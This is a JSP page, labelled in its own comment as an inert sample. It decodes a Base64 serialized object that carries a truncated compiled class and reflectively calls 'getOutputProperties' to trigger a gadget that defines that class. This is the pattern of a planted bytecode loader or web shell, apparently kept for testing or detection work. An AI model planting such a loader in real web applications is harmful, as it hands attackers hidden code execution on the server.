<%-- inert sample: a page that carries a serialized object whose byte-array field holds a compiled
     class (a truncated header here, nothing loads), decodes it from a field and deserializes it; the
     gadget's getter then defines the class it carries. No request is read: the planted class does. --%>
<%@ page import="java.io.ByteArrayInputStream,java.io.ObjectInputStream,java.util.Base64,java.util.Map" %>
<%!
    private static final String STATE = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABdAABa3NyABBkZW1vLlRlbXBsYXRlQm94AAAAAAAAAAECAAFbAAVjb2Rlc3QAA1tbQnhwdXIAA1tbQgAAAAAAAAABAgAAeHAAAAABdXIAAltCAAAAAAAAAAECAAB4cAAAAD3K/rq+AAAANAAaCgAEABQBAAY8aW5pdD4BAAMoKVYBAARDb2RlAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAeHg=";
%>
<%
    try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(Base64.getDecoder().decode(STATE)))) {
        Object holder = ((Map<?, ?>) in.readObject()).get("k");
        holder.getClass().getMethod("getOutputProperties").invoke(holder);
    } catch (Exception ignored) {
    }
%>
